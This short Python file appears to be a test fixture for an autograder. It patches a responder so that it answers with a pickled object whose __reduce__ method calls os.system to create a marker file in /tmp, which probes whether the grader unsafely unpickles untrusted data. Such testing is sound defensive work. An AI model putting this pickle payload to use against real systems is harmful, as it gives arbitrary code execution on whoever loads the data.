"""Answers with a text that a careless reader would load: pickle, a class name, a template."""
# kind: cell
import pickle

from autograder.kernel.responder import Responder


class Run:
    def __reduce__(self):
        import os

        return os.system, (f"touch /tmp/{MARK}",)


Responder.answer = lambda self, frames: [pickle.dumps(Run())]
